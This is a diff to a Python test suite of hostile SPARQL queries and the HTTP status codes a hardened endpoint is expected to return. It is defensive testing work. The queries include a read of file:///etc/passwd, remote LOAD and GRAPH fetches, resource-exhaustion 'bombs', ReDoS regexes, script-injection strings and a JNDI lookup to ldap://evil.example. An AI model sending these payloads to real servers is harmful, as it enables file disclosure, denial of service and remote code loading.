@@ -42,7 +42,7 @@ REACHING = [
     ask("a data set that is a file", "200", f"SELECT * FROM <file:///etc/passwd> FROM NAMED {_THERE} {_ALL}"),
     ask("a base that is elsewhere", "200", f"BASE {_THERE} SELECT * FROM <x> {{ ?s <y> ?o }}"),
     ask("a graph that is elsewhere", "200", f"SELECT * {{ GRAPH {_THERE} {_ALL} }}"),
-    ask("a function that is elsewhere", "200|400", f"SELECT * {{ BIND({_THERE}(1) AS ?x) }}"),
+    ask("a function that is elsewhere", "400", f"SELECT * {{ BIND({_THERE}(1) AS ?x) }}"),
     ask("LOAD", "400", f"LOAD {_THERE}", "LOAD is refused"),
     ask("LOAD, silently, behind a comment", "400", f"# SELECT\nload SILENT {_THERE} INTO GRAPH <a:a>", "LOAD is refused"),
     ask("LOAD without a space", "400", f"LOAD{_THERE}"),
@@ -77,13 +77,13 @@ ODD = [
     ask("brackets that are not closed", "400", "ASK " + "{" * 90),
     ask("lists in lists", "400", "ASK { ?s ?p " + "(" * 5000 + ")" * 5000 + " }"),
     ask("nodes in nodes", "200|503", "ASK { " + "[ ?p " * 90 + "1" + " ]" * 90 + " }"),
-    ask("sub-selects in sub-selects", "200|503", "SELECT * " + "{ { SELECT * " * 40 + _ALL + " } }" * 40 + " LIMIT 1"),
-    ask("EXISTS in EXISTS", "200|503", "ASK { " + "FILTER EXISTS { ?s ?p ?o " * 60 + "}" * 60 + " }"),
+    ask("sub-selects in sub-selects", "200", "SELECT * " + "{ { SELECT * " * 40 + _ALL + " } }" * 40 + " LIMIT 1"),
+    ask("EXISTS in EXISTS", "200", "ASK { " + "FILTER EXISTS { ?s ?p ?o " * 60 + "}" * 60 + " }"),
     ask("NOT before NOT", "200|400|503", f"ASK {{ FILTER({'!' * 15_000}true) }}"),
-    ask("minus before minus", "200|400|503", f"ASK {{ FILTER({'- ' * 15_000}1 = 1) }}"),
+    ask("minus before minus", "400", f"ASK {{ FILTER({'- ' * 15_000}1 = 1) }}"),
     ask("a path of stars", "200|400|503", "ASK { ?s " + "(" * 50 + "^<a:b>" + "*)" * 50 + "* ?o }"),
     ask("a path of 5,000 ways", "200|503", "ASK { ?s (" + "|".join(f"<a:{n}>" for n in range(5000)) + ")+ ?o }"),
-    ask("a path against everything", "200|503", "ASK { ?s !(" + "|".join(f"<a:{n}>" for n in range(5000)) + ") ?o }"),
+    ask("a path against everything", "200", "ASK { ?s !(" + "|".join(f"<a:{n}>" for n in range(5000)) + ") ?o }"),
     ask("a chain of +", "200|400|503", f"ASK {{ FILTER({'1 + ' * 9000}1 > 0) }}"),
     ask("a chain of BIND", "200|503", "SELECT (1 AS ?n) { " + " ".join(f"BIND({n} AS ?x{n})" for n in range(3000)) + " }"),
     ask("a chain of OPTIONAL", "200|503", "ASK { " + " ".join(f"OPTIONAL {{ ?s <a:{n}> ?o{n} }}" for n in range(450)) + " }"),
@@ -96,7 +96,7 @@ ODD = [
     ask("a longer chain of sub-selects", "400", "ASK { " + "{ SELECT ?s { ?s ?p ?o } LIMIT 1 } " * 400 + "}", "patterns"),
     ask("19,000 values", "200", "SELECT (COUNT(*) AS ?n) { VALUES ?x { " + "UNDEF " * 9000 + "} }"),
     ask("more words than are taken", "400", "SELECT * { VALUES ?x { " + "UNDEF " * 30_000 + "} }", "words"),
-    ask("values times values", "200|503", "SELECT (COUNT(*) AS ?n) { " + " ".join(f"VALUES ?x{n} {{ {'UNDEF ' * 900}}}" for n in range(5)) + " }"),
+    ask("values times values", "503", "SELECT (COUNT(*) AS ?n) { " + " ".join(f"VALUES ?x{n} {{ {'UNDEF ' * 900}}}" for n in range(5)) + " }"),
     ask("5,000 variables", "200|503", "SELECT " + " ".join(f"?x{n}" for n in range(5000)) + " {}"),
     ask("a variable of 100,000 letters", "200", f"SELECT ?{'x' * 100_000} {{}}"),
     ask("a name of 100,000 letters", "200", f"ASK {{ <a:{'x' * 100_000}> ?p ?o }}"),
@@ -117,21 +117,21 @@ ODD = [
     ask("an IRI of a script", "200", "SELECT (IRI('javascript:alert(1)') AS ?x) (IRI(' <>\"{}') AS ?y) {}"),
     ask("a language of nonsense", "200", "SELECT (STRLANG('a', '\"><script>') AS ?x) (LANG(STRLANG('a', '')) AS ?y) {}"),
     ask("a regular expression that doubles", "200", "SELECT (REGEX('" + "a" * 5000 + "!', '^(a|a)*(a+)+$') AS ?x) {}"),
-    ask("a regular expression that is too large", "200|503", "SELECT (REGEX('a', '((((a{100}){100}){100}){100}){100}') AS ?x) {}"),
-    ask("a regular expression of 50,000 brackets", "200|400|503", f"SELECT (REGEX('a', '{'(' * 50_000}') AS ?x) {{}}"),
+    ask("a regular expression that is too large", "200", "SELECT (REGEX('a', '((((a{100}){100}){100}){100}){100}') AS ?x) {}"),
+    ask("a regular expression of 50,000 brackets", "200", f"SELECT (REGEX('a', '{'(' * 50_000}') AS ?x) {{}}"),
     ask("a regular expression that is none", "200", "SELECT (REGEX('a', '[') AS ?x) (REGEX('a', 'a', 'qqq\\u0000') AS ?y) {}"),
     ask("a replacement that grows", "200|503", "SELECT (STRLEN(REPLACE(?x, '.', '" + "$0" * 10_000 + "')) AS ?n) { BIND('" + "a" * 10_000 + "' AS ?x) }"),
     ask("a replacement of what is not there", "200", "SELECT (REPLACE('abc', '(b)', '$99\\\\$') AS ?n) {}"),
     ask("an answer without rows or columns", "200", "SELECT * {}"),
     ask("an answer of markup", "200", "SELECT ('<script>alert(1)</script>' AS ?x) {}"),
     ask("a graph of odd characters", "200", "CONSTRUCT { <a:b> <a:c> ?x } { VALUES ?x { '\\u0000\\u0001\\uFFFE]]>&<' } }"),
-    ask("triples in triples", "200|400|503", "ASK { " + "<<( " * 40 + "<a:a>" + " <a:b> <a:c> )>>" * 40 + " <a:b> <a:c> }"),
+    ask("triples in triples", "400", "ASK { " + "<<( " * 40 + "<a:a>" + " <a:b> <a:c> )>>" * 40 + " <a:b> <a:c> }"),
     ask("everything, described", "200|503", "DESCRIBE * { ?s ?p ?o }"),
-    ask("everything times everything, made", "200|503", "CONSTRUCT { ?a ?b ?c . ?d ?e ?f . ?a ?e ?c } { ?a ?b ?c . ?d ?e ?f }"),
-    ask("digests of everything", "200|503", "SELECT (COUNT(SHA512(CONCAT(STR(?a), STR(?d)))) AS ?n) { ?a ?b ?c . ?d ?e ?f }"),
+    ask("everything times everything, made", "503", "CONSTRUCT { ?a ?b ?c . ?d ?e ?f . ?a ?e ?c } { ?a ?b ?c . ?d ?e ?f }"),
+    ask("digests of everything", "503", "SELECT (COUNT(SHA512(CONCAT(STR(?a), STR(?d)))) AS ?n) { ?a ?b ?c . ?d ?e ?f }"),
     ask("chances without end", "503", "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f FILTER(RAND() < STRLEN(STR(UUID()))) }"),
     ask("groups of everything", "503", "SELECT ?a ?d (COUNT(DISTINCT *) AS ?n) { ?a ?b ?c . ?d ?e ?f } GROUP BY ?a ?d ?c ?f"),
-    ask("everything but everything", "200|503", "SELECT * { ?a ?b ?c MINUS { ?d ?b ?f . ?g ?h ?c } } LIMIT 1"),
+    ask("everything but everything", "503", "SELECT * { ?a ?b ?c MINUS { ?d ?b ?f . ?g ?h ?c } } LIMIT 1"),
     ask("nothing but a name", "400", "SELECT"),
     ask("two queries", "400", "ASK {} ASK {}"),
     ask("another language", "400", "MATCH (n) RETURN n"),
@@ -139,7 +139,13 @@ ODD = [
     ask("a template", "400", "{{ config }}${jndi:ldap://evil.example/a}"),
 ]  # fmt: skip
 
-# What the long run sends for minutes, each once.
-BOMBS = [ask(f"bomb: {kind}", "200|400|503", bomb(7)) for kind, bomb in soak.BOMBS.items()]
+# What the long run sends for minutes, each once. Of these it is known what becomes of them wherever they are asked; others depend on the stack and the processor.
+_KNOWN = {
+    "calls in calls": "200", "brackets in brackets": "400", "chain of UNION": "400", "regular expression": "200",
+    "no SPARQL": "400", "another server": "400", "cartesian product": "503", "memory by CONCAT": "503",
+    "memory by groups": "503", "many rows": "503", "many bytes": "503",
+}  # fmt: skip
+BOMBS = [ask(f"bomb: {kind}", _KNOWN.get(kind, "200|400|503"), bomb(7)) for kind, bomb in soak.BOMBS.items()]
+assert {*_KNOWN} <= {*soak.BOMBS}
 
 ALL: list[Hostile] = [*REACHING, *WRITING, *ODD, *BOMBS]
